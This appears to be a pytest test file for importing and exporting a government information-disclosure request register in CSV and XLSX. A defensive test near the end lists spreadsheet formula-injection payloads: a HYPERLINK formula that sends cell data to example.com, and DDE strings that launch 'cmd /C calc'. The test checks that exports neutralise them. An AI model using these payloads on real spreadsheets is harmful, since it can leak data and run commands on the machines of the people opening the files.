"""`tickets import` and `tickets export`: the office register in and out, validated and idempotent."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from bot.db import Database
from bot.tickets.models import Ticket, TicketEvent

HEADER = "登记编号,收到日期,申请人类型,申请内容,办结日期,办理结果"
GOOD = [
    "R1,2024-12-10,自然人,2024年财政预算,2025-01-08,予以公开",
    "R2,2024-12-20,商业企业,规划许可证,2025-01-20,无法提供：补正后申请内容仍不明确",
    'R3,2025-03-01,社会公益组织,"征地补偿\n安置方案",2025-03-09,不予公开：4.保护第三方合法权益',
    ",2025-04-01,其他,拆迁公告,,",
    ",2025-04-01,其他,拆迁公告,,",  # the same content twice: two requests, kept apart by occurrence
    "R6,2025-05-06,法律服务机构,执法案卷,2025-05-20,partly_disclosed",
]


def _csv(path: Path, lines: list[str], *, bom: bool = True, header: str = HEADER) -> Path:
    path.write_text(("\ufeff" if bom else "") + "\n".join([header, *lines]) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def run(cli: Any, db_url: str) -> Any:
    def call(*args: str) -> tuple[int, str, str]:
        return cli("--db", db_url, *args)

    status, _out, err = call("staff", "add", "li")
    assert status == 0, err
    return call


def _table(run: Any, year: int = 2025) -> dict[str, list[int]]:
    status, out, err = run("report", "--year", str(year), "--format", "json")
    assert status == 0, err
    return {r["label"]: list(r["values"].values()) for r in json.loads(out)["table3"]["rows"] if r["values"]}


def test_import_twice_counts_once(run: Any, tmp_path: Path) -> None:
    path = _csv(tmp_path / "台账.csv", GOOD)
    assert run("tickets", "import", str(path), "--as", "li")[1].strip() == "导入完成：新增 6 件，更新 0 件，未变 0 件。"
    first = _table(run)
    assert run("tickets", "import", str(path), "--as", "li")[1].strip() == "导入完成：新增 0 件，更新 0 件，未变 6 件。"
    assert _table(run) == first
    assert first["一、本年新收政府信息公开申请数量"] == [0, 0, 0, 1, 1, 2, 4]
    assert first["二、上年结转政府信息公开申请数量"] == [1, 1, 0, 0, 0, 0, 2]
    assert first["4.保护第三方合法权益"] == [0, 0, 0, 1, 0, 0, 1]
    assert first["（二）部分公开（区分处理的，只计这一情形，不计其他情形）"] == [0, 0, 0, 0, 1, 0, 1]
    assert first["四、结转下年度继续办理"] == [0, 0, 0, 0, 0, 2, 2]


def test_without_bom_with_english_headers_and_xlsx(run: Any, tmp_path: Path) -> None:
    english = "register_no,received_on,applicant_type,subject,closed_on,outcome"
    _csv(tmp_path / "a.csv", GOOD[:2], bom=False, header=english)
    assert run("tickets", "import", str(tmp_path / "a.csv"), "--as", "li")[0] == 0
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER.split(","))
    sheet.append(["R9", "2025-07-01", "科研机构", "科研数据", "2025-07-10", "其他处理：其他"])
    book.save(tmp_path / "b.xlsx")
    status, out, _ = run("tickets", "import", str(tmp_path / "b.xlsx"), "--as", "li")
    assert status == 0 and "新增 1 件" in out
    assert _table(run)["3.其他"] == [0, 0, 1, 0, 0, 0, 1]


BROKEN = [
    "R1,2024-12-10,自然人,财政预算,2025-01-08,予以公开",
    "R2,2025/01/03,自然人,财政预算,,",                   # line 3: date format
    "R3,2025-01-03,个人,财政预算,,",                       # line 4: applicant type
    "R4,2025-01-03,自然人,财政预算,2025-01-09,不予公开",  # line 5: a group with items needs its item
    "R5,2025-01-03,自然人,,,",                             # line 6: no subject
    "R6,2025-02-03,自然人,财政预算,2025-01-09,予以公开",  # line 7: closed before received
    "R1,2025-01-03,自然人,财政预算,,",                     # line 8: register number repeated
]


def test_a_broken_file_imports_nothing_and_names_every_line(run: Any, tmp_path: Path) -> None:
    path = _csv(tmp_path / "坏.csv", BROKEN)
    for _ in range(2):
        status, out, err = run("tickets", "import", str(path), "--as", "li")
        assert status == 1 and out == ""
        assert "文件中有 6 行无效，未导入任何记录" in err
        for line in (3, 4, 5, 6, 7, 8):
            assert f"第 {line} 行：" in err
        assert "“2025/01/03”不是 YYYY-MM-DD 格式的日期" in err
        assert "办理结果“不予公开”无法识别" in err
        assert _table(run)["二、上年结转政府信息公开申请数量"][-1] == 0


def test_skip_invalid_imports_the_valid_rows_and_lists_the_rest(run: Any, tmp_path: Path) -> None:
    path = _csv(tmp_path / "坏.csv", BROKEN)
    status, out, err = run("tickets", "import", str(path), "--as", "li", "--skip-invalid")
    assert status == 0 and "新增 1 件" in out and "以下 6 行无效，已跳过" in err
    status, out, err = run("tickets", "import", str(path), "--as", "li", "--skip-invalid")
    assert "新增 0 件" in out and "未变 1 件" in out


def test_a_changed_row_updates_its_request_with_an_event(run: Any, tmp_path: Path, db_url: str) -> None:
    run("tickets", "import", str(_csv(tmp_path / "a.csv", GOOD)), "--as", "li")
    changed = [GOOD[0].replace("2025-01-08,予以公开", "2025-01-09,不予公开：属于国家秘密"), *GOOD[1:]]
    status, out, _ = run("tickets", "import", str(_csv(tmp_path / "b.csv", changed)), "--as", "li")
    assert status == 0 and "更新 1 件" in out and "未变 5 件" in out
    table = _table(run)
    assert table["（一）予以公开"][-1] == 0 and table["1.属于国家秘密"] == [1, 0, 0, 0, 0, 0, 1]
    db = Database(db_url)
    with db.session() as s:
        ticket = s.scalars(select(Ticket).where(Ticket.outcome == "state_secret")).one()
        event = s.scalars(select(TicketEvent).where(TicketEvent.ticket_id == ticket.id)
                          .order_by(TicketEvent.id.desc())).first()
        assert event is not None and event.data is not None
        assert event.data["changed"] == ["closed_on", "outcome"]
    db.dispose()


def test_only_staff_import(run: Any, tmp_path: Path) -> None:
    status, _out, err = run("tickets", "import", str(_csv(tmp_path / "a.csv", GOOD)), "--as", "mallory")
    assert status == 1 and "mallory" in err


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_round_trips(run: Any, cli: Any, tmp_path: Path, suffix: str) -> None:
    run("tickets", "import", str(_csv(tmp_path / "a.csv", GOOD)), "--as", "li")
    before = {year: _table(run, year) for year in (2024, 2025)}
    out = tmp_path / f"导出2024{suffix}"
    assert run("tickets", "export", "--year", "2024", str(out))[0] == 0
    out2 = tmp_path / f"导出2025{suffix}"
    assert run("tickets", "export", "--year", "2025", str(out2))[1].strip().startswith("已导出 4 件申请")
    # Back into the same database: nothing changes.
    assert "未变 2 件" in run("tickets", "import", str(out), "--as", "li")[1]
    # Into a fresh database: the same tables, and the same register again.
    fresh = f"sqlite:///{tmp_path / 'fresh.sqlite3'}"
    cli("--db", fresh, "staff", "add", "li")
    for path in (out, out2):
        assert cli("--db", fresh, "tickets", "import", str(path), "--as", "li")[0] == 0
    again = tmp_path / f"again{suffix}"
    cli("--db", fresh, "tickets", "export", "--year", "2025", str(again))
    assert _rows(again) == _rows(out2)
    for year in (2024, 2025):
        status, text, _ = cli("--db", fresh, "report", "--year", str(year), "--format", "json")
        fresh_table = {r["label"]: list(r["values"].values()) for r in json.loads(text)["table3"]["rows"] if r["values"]}
        assert fresh_table == before[year]


def _rows(path: Path) -> list[list[str]]:
    if path.suffix == ".xlsx":
        sheet = load_workbook(path).worksheets[0]
        return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_an_unreadable_file_is_explained(run: Any, tmp_path: Path) -> None:
    fake = tmp_path / "台账.xlsx"
    fake.write_text("not a workbook", encoding="utf-8")
    status, _out, err = run("tickets", "import", str(fake), "--as", "li")
    assert status == 1 and "无法读取文件" in err
    status, _out, err = run("tickets", "import", str(tmp_path / "missing.csv"), "--as", "li")
    assert status == 1 and "无法读取文件" in err
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes((HEADER + "\n" + GOOD[0] + "\n").encode("gbk"))
    status, _out, err = run("tickets", "import", str(gbk), "--as", "li")
    assert status == 1 and "无法读取文件" in err
    status, _out, err = run("tickets", "import", str(_csv(tmp_path / "h.csv", GOOD, header="编号,日期,类型")), "--as", "li")
    assert status == 1 and "无法识别的列：编号、日期、类型" in err


def test_a_row_with_more_or_fewer_cells_than_the_header_is_refused(run: Any, tmp_path: Path) -> None:
    """An unquoted comma in the subject shifts every cell after it; a short row is not an open request."""
    rows = [
        GOOD[0],
        "R2,2025-01-03,自然人,征地,补偿方案,2025-01-09,予以公开",  # line 3: 7 cells
        "R3,2025-01-04,自然人,拆迁公告",                            # line 4: 4 cells (it used to import as open)
        "R4,2025-01-05,自然人,规划,,,",                             # line 5: 7 cells, the last one empty
    ]
    status, out, err = run("tickets", "import", str(_csv(tmp_path / "a.csv", rows)), "--as", "li")
    assert status == 1 and out == "" and "文件中有 3 行无效，未导入任何记录" in err
    assert "第 3 行：这一行有 7 格，表头有 6 列" in err
    assert "第 4 行：这一行有 4 格，表头有 6 列" in err
    assert "第 5 行：这一行有 7 格，表头有 6 列" in err
    assert _table(run)["二、上年结转政府信息公开申请数量"][-1] == 0  # nothing imported, not even line 2
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER.split(","))
    sheet.append(["R9", "2025-07-01", "科研机构", "科研数据", "2025-07-10", "其他处理：其他", "多出的一格"])
    sheet.append(["R8", "2025-07-02", "科研机构", "科研数据"])  # empty cells at the end of a sheet row: not short
    book.save(tmp_path / "b.xlsx")
    status, _out, err = run("tickets", "import", str(tmp_path / "b.xlsx"), "--as", "li")
    assert status == 1 and "第 2 行：这一行有 7 格，表头有 6 列" in err and "第 3 行" not in err


TRAPS = [
    '=HYPERLINK("http://example.com/?q="&A1,"点此查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+86 0745 1234567 来电咨询",
    "-2+3+cmd|' /C calc'!A0",
    "'=已经带引号的公式",
]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_text_is_never_a_formula(run: Any, tmp_path: Path, db_url: str, suffix: str) -> None:
    """OWASP's CSV-injection rule: a cell starting with = + - @ gets a leading apostrophe; import takes it off."""
    _add_requests(db_url, TRAPS)
    out = tmp_path / f"导出{suffix}"
    assert run("tickets", "export", "--year", "2025", str(out))[0] == 0
    if suffix == ".xlsx":
        sheet = load_workbook(out).worksheets[0]
        cells = [sheet.cell(row, 4) for row in range(2, sheet.max_row + 1)]
        assert all(c.data_type == "s" for c in cells)  # text, not a formula
        subjects = [str(c.value) for c in cells]
    else:
        subjects = [row[3] for row in _rows(out)[1:]]
    assert subjects == ["'" + t for t in TRAPS]
    assert "'-2" not in "".join(r[1] for r in _rows(out)[1:])  # dates and figures are left alone
    status, text, _ = run("tickets", "import", str(out), "--as", "li")  # back in: the same subjects
    assert status == 0 and f"未变 {len(TRAPS)} 件" in text


def test_a_control_character_does_not_stop_the_xlsx_export(run: Any, tmp_path: Path, db_url: str) -> None:
    _add_requests(db_url, ["征地\x0b补偿\x1f方案"])
    assert run("tickets", "export", "--year", "2025", str(tmp_path / "a.xlsx"))[0] == 0
    assert load_workbook(tmp_path / "a.xlsx").worksheets[0]["D2"].value == "征地补偿方案"
    assert run("tickets", "export", "--year", "2025", str(tmp_path / "a.csv"))[0] == 0
    assert _rows(tmp_path / "a.csv")[1][3] == "征地\x0b补偿\x1f方案"  # a CSV can hold them


def test_a_nul_character_in_a_register_is_dropped(run: Any, tmp_path: Path) -> None:
    """PostgreSQL cannot store NUL in text: a broken register must not stop the import with a traceback."""
    path = _csv(tmp_path / "a.csv", ["R1,2025-01-03,自然人,征地\x00补偿,,"])
    status, out, err = run("tickets", "import", str(path), "--as", "li")
    assert status == 0 and "新增 1 件" in out, err
    run("tickets", "export", "--year", "2025", str(tmp_path / "b.csv"))
    assert _rows(tmp_path / "b.csv")[1][3] == "征地补偿"


def _add_requests(db_url: str, subjects: list[str]) -> None:
    """Requests as the chat stores them: the citizen's own words as the subject."""
    from datetime import date

    from bot.tickets.models import RequestDetails

    db = Database(db_url)
    with db.session() as s:
        for n, subject in enumerate(subjects, start=1):
            ticket = Ticket(number=f"2025-{n:06d}", kind="disclosure_request", status="received", channel="telegram",
                            subject=subject, created_at=date(2025, 3, n), received_on=date(2025, 3, n),
                            extension_days=0)
            s.add(ticket)
            s.flush()
            s.add(RequestDetails(ticket_id=ticket.id, applicant_name="张三", applicant_type="natural_person",
                                 id_kind="", id_number="", form="", delivery=""))
    db.dispose()


def test_report_files_neutralise_text_but_keep_negative_figures() -> None:
    from datetime import UTC, datetime

    from bot.stats.proactive import set_figure
    from bot.stats.render import to_csv
    from bot.stats.report import build_report
    from bot.stats.xlsx import to_xlsx

    db = Database("sqlite://")
    with db.session() as s:
        set_figure(s, year=2019, report_format="2019", item="licensing", field="change", raw="-2", actor="li",
                   at=datetime(2020, 1, 5, tzinfo=UTC))
        report = build_report(s, 2019)
    db.dispose()
    report["checks"].append({"name": "=1+1", "status": "fail", "ok": False, "detail": "@x\x0b"})
    rows = list(csv.reader(io.StringIO(to_csv(report))))
    assert ["行政许可", "本年增/减", "-2"] in rows and ["不通过", "'=1+1", "'@x\x0b"] in rows
    book = load_workbook(io.BytesIO(to_xlsx(report)))
    assert book["二、主动公开"]["C7"].value == -2
    assert [c.value for c in list(book["勾稽核对"].rows)[-1]] == ["不通过", "'=1+1", "'@x"]
